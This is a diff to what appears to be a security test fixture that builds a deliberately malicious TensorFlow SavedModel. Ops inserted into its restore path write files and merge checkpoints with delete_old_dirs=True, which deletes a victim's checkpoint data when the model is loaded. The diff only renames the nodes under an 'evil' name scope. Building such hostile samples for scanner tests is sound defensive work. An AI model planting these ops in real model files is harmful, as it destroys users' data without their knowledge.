@@ -78,21 +78,21 @@ def tf1_saved_model_evil_saver(
     model = saved_model_pb2.SavedModel.FromString((path / "saved_model.pb").read_bytes())
     meta = model.meta_graphs[0]
     graph = tf.Graph()
-    with graph.as_default():
-        value = tf.constant([3.0], name="evil/value")
+    with graph.as_default(), tf.name_scope("evil"):
+        value = tf.constant([3.0], name="value")
         save = tf.raw_ops.SaveV2(
             prefix=tf.constant(str(written)),
             tensor_names=tf.constant(["x"]),
             shape_and_slices=tf.constant([""]),
             tensors=[value],
-            name="evil/save",
+            name="save",
         )
         with tf.control_dependencies([save]):
             tf.raw_ops.MergeV2Checkpoints(
                 checkpoint_prefixes=tf.constant([str(victim)]),
                 destination_prefix=tf.constant(str(written) + "_merged"),
                 delete_old_dirs=True,
-                name="evil/merge",
+                name="merge",
             )
     meta.graph_def.node.extend(graph.as_graph_def().node)
     restore = meta.saver_def.restore_op_name
